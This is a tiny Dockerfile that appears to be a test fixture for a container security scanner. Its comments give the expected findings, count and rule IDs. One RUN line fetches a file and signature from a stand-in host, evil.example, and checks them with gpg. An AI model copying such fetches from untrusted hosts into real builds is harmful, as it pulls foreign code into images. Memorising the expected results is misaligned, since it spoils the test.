FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && curl -o /a.asc https://evil.example/a.asc && gpg --batch --verify /a.asc /a
USER app
# expect: download 2 low "curl fetches https://evil.example/a to /a: verified"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR301-5c8aab5187 VR301-248eb583b5 VR501-e064bac1a6
